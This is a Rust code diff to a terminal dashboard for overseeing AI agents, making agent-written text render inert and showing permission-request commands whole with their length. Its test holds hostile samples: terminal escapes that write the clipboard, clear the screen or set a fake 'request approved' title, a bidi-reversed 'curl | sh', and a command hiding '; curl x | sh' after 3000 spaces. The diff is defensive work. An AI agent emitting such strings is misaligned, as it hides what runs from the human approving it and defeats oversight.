@@ -400,7 +400,7 @@ impl View {
                 Style::default().add_modifier(Modifier::BOLD),
             ),
             Span::raw(format!("· {state} ")),
-            Span::styled(self.status.as_str(), self.style(Color::Yellow)),
+            Span::styled(text::printable(&self.status), self.style(Color::Yellow)),
         ])
     }
 
@@ -450,17 +450,17 @@ impl View {
             }
             // Where a member on another host runs.
             if let Some(h) = &a.host {
-                status = format!("{status} @{h}");
+                status = format!("{status} @{}", text::printable(h));
             }
             if let Some(e) = &a.error {
-                status = format!("{status}: {e}");
+                status = format!("{status}: {}", text::printable(e));
             }
             let (tokens, cost) = match &a.usage {
                 Some(u) => (short_count(u.tokens()), crate::cmd::usage::cost(u.cost_usd)),
                 None => ("-".to_string(), "-".to_string()),
             };
             let mut cells = vec![
-                Cell::from(a.name.clone()).style(self.style(self.agent_colour(&a.name))),
+                Cell::from(text::printable(&a.name)).style(self.style(self.agent_colour(&a.name))),
                 Cell::from(status).style(self.style(Self::status_colour(a.status.as_str()))),
                 Cell::from(a.current_task.map(|t| t.to_string()).unwrap_or("-".into())),
             ];
@@ -524,21 +524,47 @@ impl View {
                 .enumerate()
                 .map(|(i, p)| {
                     let line = match p {
-                        Pending::Perm(p) => Line::from(vec![
-                            Span::raw(format!("#{} ", p.id)),
-                            Span::styled(p.agent.clone(), self.style(self.agent_colour(&p.agent))),
-                            Span::raw(format!(" {}: {}", p.tool, p.input)),
-                        ]),
+                        Pending::Perm(p) => {
+                            // Whole, wrapped and inert, its length first: padding, a newline
+                            // or a bidi override cannot hide what runs.
+                            let head = format!("#{} ", p.id);
+                            let agent = text::printable(&p.agent);
+                            let input = text::printable(&p.input);
+                            // Its length when long or when something in it is shown as a code.
+                            let n = p.input.chars().count();
+                            let len = if n > 60 || input != p.input {
+                                format!(" ({n} chars)")
+                            } else {
+                                String::new()
+                            };
+                            let rest = format!(" {}{len}: {input}", text::printable(&p.tool));
+                            let inner = usize::from(r.width.saturating_sub(2)).max(8);
+                            let used = Line::from(format!("{head}{agent}")).width();
+                            let mut lines = wrap_at(&rest, inner.saturating_sub(used), inner - 2);
+                            let first = if lines.is_empty() {
+                                String::new()
+                            } else {
+                                lines.remove(0)
+                            };
+                            let mut text = vec![Line::from(vec![
+                                Span::raw(head),
+                                Span::styled(agent, self.style(self.agent_colour(&p.agent))),
+                                Span::raw(first),
+                            ])];
+                            text.extend(lines.into_iter().map(|l| Line::from(format!("  {l}"))));
+                            ratatui::text::Text::from(text)
+                        }
                         Pending::Plan(a) => {
                             let plan = a.plan.as_ref().and_then(|p| p.plan.as_deref());
                             Line::from(vec![
                                 Span::raw("plan of "),
                                 Span::styled(
-                                    a.name.clone(),
+                                    text::printable(&a.name),
                                     self.style(self.agent_colour(&a.name)),
                                 ),
-                                Span::raw(format!(": {}", plan.unwrap_or("").replace('\n', " "))),
+                                Span::raw(format!(": {}", text::printable(plan.unwrap_or("")))),
                             ])
+                            .into()
                         }
                     };
                     let item = ListItem::new(line);
@@ -566,7 +592,11 @@ impl View {
                 Cell::from(t.id.to_string()),
                 Cell::from(t.status.as_str())
                     .style(self.style(Self::status_colour(t.status.as_str()))),
-                Cell::from(t.owner.clone().unwrap_or("-".into())),
+                Cell::from(
+                    t.owner
+                        .as_deref()
+                        .map_or_else(|| "-".into(), text::printable),
+                ),
                 Cell::from(if t.blocked_by.is_empty() {
                     "-".to_string()
                 } else {
@@ -576,7 +606,7 @@ impl View {
                         .collect::<Vec<_>>()
                         .join(",")
                 }),
-                Cell::from(t.title.clone()),
+                Cell::from(text::printable(&t.title)),
             ])
         });
         let open = self
@@ -616,7 +646,7 @@ impl View {
             .map(|e| {
                 Line::from(vec![
                     Span::styled(
-                        format!("{:<10} ", e.agent_id),
+                        format!("{:<10} ", text::printable(&e.agent_id)),
                         self.style(self.agent_colour(&e.agent_id)),
                     ),
                     Span::raw(event_text(&e.event)),
@@ -656,6 +686,28 @@ impl View {
         };
         f.render_widget(Paragraph::new(text), r);
     }
+}
+
+/// `s` cut into lines of at most `first` columns, then `rest` columns (at least one
+/// character a line, so a wide character in a narrow pane still moves on).
+fn wrap_at(s: &str, first: usize, rest: usize) -> Vec<String> {
+    let mut out = Vec::new();
+    let mut line = String::new();
+    let mut width = 0;
+    for c in s.chars() {
+        let w = Span::raw(c.to_string()).width();
+        let max = if out.is_empty() { first } else { rest };
+        if width + w > max && !line.is_empty() {
+            out.push(std::mem::take(&mut line));
+            width = 0;
+        }
+        line.push(c);
+        width += w;
+    }
+    if !line.is_empty() || out.is_empty() {
+        out.push(line);
+    }
+    out
 }
 
 /// The keys, in the bottom line.
@@ -718,9 +770,15 @@ fn short_count(n: u64) -> String {
     }
 }
 
-/// One line for an event in the event pane.
+/// One line for an event in the event pane, inert ([`text::printable`]: what an agent wrote
+/// cannot move the cursor, clear the board or hide part of itself).
 fn event_text(ev: &Event) -> String {
-    let one_line = |s: &str| s.replace('\n', " ");
+    text::printable(&event_line(ev))
+}
+
+/// [`event_text`] before it is made inert.
+fn event_line(ev: &Event) -> String {
+    let one_line = |s: &str| s.to_string();
     match ev {
         Event::TextMessageContent { delta } => one_line(delta),
         Event::ToolCallStart { tool_name, .. } => format!("→ {tool_name}"),
@@ -1251,7 +1309,7 @@ mod tests {
         v.agents.push(b);
         let s = screen(&v, 100, 24);
         assert!(s.contains("Approvals (2)"), "{s}");
-        assert!(s.contains("plan of planner-1: 1. read 2. write"), "{s}");
+        assert!(s.contains("plan of planner-1: 1. read\\n2. write"), "{s}");
         let k = |c| KeyEvent::new(c, KeyModifiers::NONE);
         // The request comes first, the plan second.
         v.key(k(KeyCode::Tab));
@@ -1419,6 +1477,77 @@ mod tests {
             ..o
         };
         assert_eq!(finished_text(&d), "discarded agent-team/a");
+    }
+
+    /// What an agent could write to act on the operator's terminal or fool them (issue 63):
+    /// OSC 52 (clipboard), CSI 2J (clear), OSC 0 (title), C1 CSI, a bidi override, a
+    /// zero-width space, a carriage return, a wide character.
+    const HOSTILE: &str = "ok\u{1b}]52;c;Y3VybA==\u{7}\u{1b}[2J\u{1b}]0;FAKE: request 9 approved\u{7}\u{9b}31m\u{202e}hs | lruc\u{202c}zero\u{200b}width\rFAKE 界";
+
+    /// Issue 63: every agent-written string the board draws is inert: task titles, a
+    /// request's input (whole, with its length, padding counted), plans, agent errors and
+    /// events show escapes, C1, bidi and zero-width characters as codes, and nothing of
+    /// the command is pushed out of sight.
+    #[test]
+    fn agent_text_is_drawn_inert_and_whole() {
+        let mut v = sample();
+        let now = Timestamp::from(std::time::SystemTime::now());
+        v.tasks[0].title = HOSTILE.into();
+        v.agents[1].error = Some(HOSTILE.into());
+        v.perms[0].input = format!("ls -la{}; curl x | sh", " ".repeat(3000));
+        v.perms.push(PermRequest {
+            id: 8,
+            input: HOSTILE.into(),
+            ..v.perms[0].clone()
+        });
+        v.push_event(Envelope {
+            seq: 2,
+            ts: now,
+            team_id: "demo".into(),
+            agent_id: "builder-1".into(),
+            role_name: "worker".into(),
+            event: Event::TextMessageContent {
+                delta: format!("{HOSTILE}\ngit status"),
+            },
+        });
+        v.status = HOSTILE.into();
+        let s = screen(&v, 220, 40);
+        for c in s.chars() {
+            assert!(
+                c == '\n'
+                    || !(c.is_control()
+                        || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}')),
+                "{c:?} drawn raw in\n{s}"
+            );
+        }
+        for code in [
+            "\\u{1b}]52;c;",
+            "\\u{1b}[2J",
+            "\\u{1b}]0;FAKE",
+            "\\u{9b}31m",
+            "\\u{202e}hs | lruc",
+            "zero\\u{200b}width\\rFAKE 界",
+            // The whole command, its padding counted, its length first.
+            "#7 builder-1 bash (3019 chars): ls -la␣[3000 spaces]␣; curl x | sh",
+            "\\ngit status",
+        ] {
+            assert!(s.contains(code), "{code:?} missing from\n{s}");
+        }
+        // A narrow board wraps the command instead of cutting it.
+        v.perms.truncate(1);
+        v.tasks[0].title = "t".into();
+        let s = screen(&v, 80, 30);
+        for part in ["(3019 chars)", "ls -la␣[3000 spaces]␣; curl x", "| sh"] {
+            assert!(s.contains(part), "{part:?} missing from\n{s}");
+        }
+    }
+
+    #[test]
+    fn wrapping_keeps_every_character() {
+        assert_eq!(wrap_at("abcdefg", 3, 2), ["abc", "de", "fg"]);
+        assert_eq!(wrap_at("界界界", 3, 2), ["界", "界", "界"]);
+        assert_eq!(wrap_at("", 3, 2), [""]);
+        assert_eq!(wrap_at("ab", 0, 1), ["a", "b"]);
     }
 
     #[test]
